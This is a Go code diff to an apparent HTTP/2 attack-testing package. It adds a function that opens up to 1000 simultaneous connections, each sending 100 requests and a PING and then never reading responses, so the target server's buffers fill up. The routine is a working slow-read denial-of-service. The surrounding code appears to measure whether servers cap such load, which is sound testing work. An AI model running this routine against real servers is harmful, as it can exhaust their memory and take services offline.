@@ -3,8 +3,10 @@ package h2attack
 import (
 	"bytes"
 	"context"
+	"errors"
 	"fmt"
 	"strings"
+	"sync"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -326,5 +328,67 @@ func Invalid(ctx context.Context, addr string, o InvalidOptions) Result {
 		}
 		return fmt.Errorf("unknown invalid frame %d", int(o.Frame))
 	})
+	return rec.result()
+}
+
+// UnreadOptions shape Unread.
+type UnreadOptions struct {
+	Call Call
+	// Peers is the connections, all dialed at once (default 1000).
+	Peers int
+	// Calls is the whole calls each peer sends (default 100).
+	Calls int
+}
+
+// Unread dials its peers all at once; each sends its calls whole and a
+// PING, never reads a byte, and keeps its connection open until ctx ends:
+// the server's answers wait in its buffers for every peer, and what it
+// holds grows with the connections it lets in. A connection the server
+// closes is not dialed again.
+func Unread(ctx context.Context, addr string, o UnreadOptions) Result {
+	o.Peers = orDefault(o.Peers, 1000)
+	o.Calls = orDefault(o.Calls, 100)
+	rec := newRecorder()
+	msg, err := o.Call.message(0)
+	if err != nil {
+		rec.fail(err)
+		return rec.result()
+	}
+	var wg sync.WaitGroup
+	for range o.Peers {
+		wg.Go(func() {
+			c, err := dial(ctx, addr, rec, dialOptions{mode: readNone})
+			switch {
+			case errors.Is(err, errClosedAtOnce):
+				return // refused past its bound: counted as the server's close
+			case err != nil:
+				if ctx.Err() == nil {
+					rec.fail(err)
+				}
+				return
+			}
+			defer c.close()
+			err = c.send(func() error {
+				for range o.Calls {
+					id, err := c.openStream("", false)
+					if err != nil {
+						return err
+					}
+					if err := c.fr.WriteData(id, true, msg); err != nil {
+						return err
+					}
+				}
+				return c.fr.WritePing(false, [8]byte{})
+			})
+			if err != nil {
+				return // the server closed it, which send counted
+			}
+			select {
+			case <-c.done:
+			case <-ctx.Done():
+			}
+		})
+	}
+	wg.Wait()
 	return rec.result()
 }
